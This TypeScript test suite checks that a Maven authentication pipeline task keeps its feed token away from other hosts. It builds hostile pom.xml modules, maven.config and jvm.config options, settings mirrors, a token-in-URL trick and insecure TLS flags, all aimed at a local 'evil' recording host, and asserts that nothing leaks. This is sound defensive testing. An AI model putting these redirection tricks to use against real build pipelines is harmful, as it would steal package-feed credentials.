import assert from "node:assert/strict";
import { join } from "node:path";
import { discoverUpstreams } from "../../sandbox/feed/upstream/discover-upstreams";
import { requireClient, type Java, type Maven } from "../clients/found-clients";
import { RecordingHost, type Arrival } from "./recording-host";
import { Sandbox, type Job, type Outcome } from "./sandbox";
import { assertNoToken, tokenForms } from "./token-scan";

const mvn = "mvn -B -ntp";
const versions = ["maven38", "maven39"] as const;
const task = "- task: AuthenticateMaven@1\n  inputs:\n    feeds: Fabrikam Fiber/fiber\n";

function pom(artifact: string, more: string, version = "1.0.0"): string {
  return `<project><modelVersion>4.0.0</modelVersion><groupId>com.fabrikam</groupId><artifactId>${artifact}</artifactId><version>${version}</version><packaging>pom</packaging>${more}</project>`;
}

function deploysTo(id: string, url: string, element = "repository"): string {
  return `<distributionManagement><${element}><id>${id}</id><url>${url}</url></${element}></distributionManagement>`;
}

function plugin(configuration: string): string {
  return `<build><plugins><plugin><artifactId>maven-deploy-plugin</artifactId><configuration>${configuration}</configuration></plugin></plugins></build>`;
}

const token = "${env.FEEDPASS_MAVEN_TOKEN}";
const guesses = ["fiber", "feedpass-fiber", "feedpass-public", "feedpass-public-central", "more"];

/** Modules of a project beside the one that the task read, each deployed elsewhere, by what it tries. */
function hostileModules(elsewhere: (path: string) => string): Readonly<Record<string, string>> {
  const alternative = (path: string): string =>
    `<altDeploymentRepository>fiber::default::${elsewhere(path)}</altDeploymentRepository>`;
  const modules: readonly (readonly [string, string])[] = [
    ...guesses.map((id) => [id, pom(id, deploysTo(id, elsewhere(id)))] as const),
    [
      "snapshot",
      pom("snapshot", deploysTo("fiber", elsewhere("snapshot"), "snapshotRepository"), "1-SNAPSHOT"),
    ],
    ["configured", pom("configured", plugin(alternative("configured")))],
    ["property", pom("property", `<properties>${alternative("property")}</properties>`)],
    ["variable", pom("variable", deploysTo("none", elsewhere(`variable/${token}`)))],
  ];
  return Object.fromEntries(modules);
}

/** Settings with mirrors of guessed ids, and repositories that they are the mirrors of. */
function hostileSettings(elsewhere: (path: string) => string): Job["sources"] {
  const mirrors = guesses.map(
    (id) =>
      `<mirror><id>${id}</id><url>${elsewhere(`mirror-${id}`)}</url><mirrorOf>of-${id}</mirrorOf></mirror>`,
  );
  const repositories = guesses.map(
    (id) => `<repository><id>of-${id}</id><url>https://registry.example/${id}</url></repository>`,
  );
  const wanted =
    "<dependencyManagement><dependencies><dependency><groupId>com.none</groupId><artifactId>none</artifactId><version>1</version><type>pom</type><scope>import</scope></dependency></dependencies></dependencyManagement>";
  return {
    "settings/pom.xml": pom("settings", `<repositories>${repositories.join("")}</repositories>${wanted}`),
    "settings/.mvn/maven.config": "-s\nevil.xml\n",
    "settings/evil.xml": `<settings><servers><server><id>more</id><username>u</username><password>${token}</password></server></servers><mirrors>${mirrors.join("")}</mirrors></settings>`,
  };
}

describe("authenticate-maven keeps the token from whatever else Maven is told", () => {
  let sandbox: Sandbox;
  let evil: RecordingHost;
  let java: Java;
  const mavens = new Map<string, Maven>();

  before(async function () {
    java = requireClient(this, "java");
    for (const version of versions) mavens.set(version, requireClient(this, version));
    const { maven } = (await discoverUpstreams()).registries;
    assert.ok(maven !== undefined, "mvn did not name the registry that it is set up for");
    const clients = { node20: requireClient(this, "node20"), node24: requireClient(this, "node24") };
    sandbox = await Sandbox.open(clients, maven);
    evil = await RecordingHost.open();
  });

  after(async () => {
    await Promise.all([sandbox.close(), evil.close()]);
  });

  const feed = (): string => sandbox.address("services", "Fabrikam%20Fiber/_packaging/fiber/maven/v1");
  const shared = (): string => sandbox.address("services", "_packaging/shared/maven/v1");
  const contoso = "https://pkgs.dev.azure.com/contoso/_packaging/parts/maven/v1";
  const run = (version: string, steps: string, sources: Job["sources"]): Promise<Outcome> =>
    sandbox.run({
      steps: `steps:\n${steps}`,
      sources,
      handler: "Node24",
      programs: [mavens.get(version)?.path ?? "", join(java.home, "bin", "java")],
      environment: { JAVA_HOME: java.home },
    });
  const steps = (scripts: readonly string[]): string =>
    scripts.map((script) => `- script: ${script}\n  continueOnError: true\n`).join("");
  const deployed = ({ requests }: Outcome): readonly string[] =>
    requests
      .filter(({ method, status, path }) => method === "PUT" && status < 300 && path.endsWith(".pom"))
      .map(({ path }) => path.replace(/^\/fabrikam\//, ""));
  const hasToken = ({ text }: Arrival): boolean =>
    tokenForms(sandbox.tokens.job).some((form) => text.includes(form));
  const assertQuiet = (outcome: Outcome): void => {
    assert.deepEqual(evil.take().filter(hasToken), []);
    assert.deepEqual(
      outcome.requests.filter(({ path, auth }) => path.startsWith("/contoso/") && auth !== "none"),
      [],
    );
    assertNoToken(outcome, sandbox.tokens.job);
  };

  for (const version of versions) {
    it(`gives nothing to projects beside the one that was read (${version})`, async function () {
      this.timeout(600_000);
      const elsewhere = (path: string): string => `${evil.address}/${path}`;
      const modules = [
        ...Object.entries(hostileModules(elsewhere)),
        ...Object.entries(hostileModules((path) => `${contoso}/${path}`)).map(
          ([name, text]) =>
            [`contoso-${name}`, text.replace("<artifactId>", "<artifactId>contoso-")] as const,
        ),
      ];
      const list = modules.map(([name]) => `<module>${name}</module>`).join("");
      const outcome = await run(
        version,
        `${task}- script: ${mvn} deploy\n${steps([
          `cd beside && ${mvn} -fae deploy`,
          `cd options && ${mvn} deploy`,
          `cd options && ${mvn} deploy:deploy-file -Dfile=pom.xml -DpomFile=pom.xml -DrepositoryId=fiber -Durl=${elsewhere("file")}`,
          `cd settings && ${mvn} validate`,
        ])}`,
        {
          "pom.xml": pom(`own-${version}`, deploysTo("fiber", feed())),
          "beside/pom.xml": pom(
            "beside",
            `<modules>${list}</modules>${deploysTo("fiber", elsewhere("top"))}`,
          ),
          ...Object.fromEntries(modules.map(([name, text]) => [`beside/${name}/pom.xml`, text])),
          "options/pom.xml": pom("options", deploysTo("fiber", elsewhere("jvm"))),
          "options/.mvn/maven.config": `-DaltReleaseDeploymentRepository=fiber::default::${elsewhere("jvm")}\n`,
          "options/.mvn/jvm.config": `-DaltDeploymentRepository=fiber::default::${elsewhere("jvm")}\n`,
          ...hostileSettings(elsewhere),
        },
      );
      const asked = evil.take();
      // An address with a variable that is not set is none, so Maven asks nobody for that one.
      const expected = [
        ...["top", "jvm", "file", "snapshot", "configured", "property", ...guesses],
        ...guesses.map((id) => `mirror-${id}`),
      ];
      const leaked = asked.filter(hasToken);
      assert.deepEqual([...new Set(leaked.map(({ path }) => path.split("/")[1]))], []);
      assert.deepEqual(
        expected.filter((name) => !asked.some(({ path }) => path.startsWith(`/${name}/`))),
        [],
        "these asked nobody, so they show nothing",
      );
      assert.equal(deployed(outcome).length, 1, outcome.log);
      assert.ok(outcome.requests.some(({ path }) => path.startsWith("/contoso/")));
      assertQuiet(outcome);
    });

    it(`deploys each module where its pom.xml says, and others by no credentials of ours (${version})`, async function () {
      this.timeout(600_000);
      const outcome = await run(
        version,
        `${task}- script: ${mvn} -fae deploy\n  continueOnError: true\n- script: cd beside && ${mvn} deploy\n`,
        {
          "pom.xml": pom(
            `top-${version}`,
            `${deploysTo("fiber", feed())}<modules><module>heir</module><module>other</module><module>\${m}</module></modules><properties><m>missed</m></properties>`,
          ),
          "heir/pom.xml": `<project><modelVersion>4.0.0</modelVersion><parent><groupId>com.fabrikam</groupId><artifactId>top-${version}</artifactId><version>1.0.0</version></parent><artifactId>heir-${version}</artifactId><packaging>pom</packaging></project>`,
          "other/pom.xml": pom(`other-${version}`, deploysTo("shared", shared()), "1.0.0-SNAPSHOT"),
          "missed/pom.xml": pom(`missed-${version}`, deploysTo("fiber", `${evil.address}/missed`)),
          "beside/pom.xml": pom(`beside-${version}`, deploysTo("own", `${evil.address}/beside`)),
        },
      );
      const places = deployed(outcome).map((path) =>
        path.replace(/\/maven\/v1\/.*\/([a-z]+)-maven.*$/, " $1"),
      );
      assert.deepEqual(places, [
        "Fabrikam%20Fiber/_packaging/fiber top",
        "Fabrikam%20Fiber/_packaging/fiber heir",
        "_packaging/shared other",
      ]);
      const arrivals = evil.take();
      for (const folder of ["missed", "beside"])
        assert.ok(arrivals.some(({ path }) => path.startsWith(`/${folder}/`)));
      assert.deepEqual(arrivals.filter(hasToken), []);
      assertQuiet(outcome);
    });

    it(`deploys by options and settings of the repository without credentials (${version})`, async function () {
      this.timeout(600_000);
      const outcome = await run(version, `${task}- script: ${mvn} deploy\n`, {
        "pom.xml": pom(`options-${version}`, deploysTo("fiber", feed())),
        ".mvn/maven.config": `-s\nci.xml\n-DaltDeploymentRepository=fiber::default::${evil.address}/options\n`,
        "ci.xml": `<settings><mirrors><mirror><id>fiber</id><url>${evil.address}/mirror</url><mirrorOf>nothing</mirrorOf></mirror></mirrors></settings>`,
      });
      const arrivals = evil.take();
      assert.ok(
        arrivals.some(({ path }) => path.startsWith("/options/")),
        outcome.log,
      );
      assert.deepEqual(arrivals.filter(hasToken), []);
      assertQuiet(outcome);
    });

    it(`refuses to let Maven send the token to whoever answers (${version})`, async function () {
      this.timeout(600_000);
      const proxy = new URL(evil.address);
      const settings = `<settings><proxies><proxy><protocol>https</protocol><host>${proxy.hostname}</host><port>${proxy.port}</port></proxy></proxies></settings>`;
      const outcome = await run(version, `${task}- script: ${mvn} deploy\n`, {
        "pom.xml": pom(`tls-${version}`, deploysTo("fiber", feed())),
        ".mvn/maven.config": "-s\nci.xml\n",
        ".mvn/jvm.config":
          "-Xmx256m\n-Dmaven.wagon.http.ssl.insecure=true\n-Daether.connector.https.securityMode=insecure\n",
        "ci.xml": settings,
      });
      assert.equal(outcome.result, "Failed");
      assert.match(outcome.log, /\.mvn\/jvm\.config:2 sets maven\.wagon\.http\.ssl\.insecure to true/);
      assert.deepEqual(evil.take(), []);
      assert.deepEqual(outcome.requests, []);
    });
  }
});
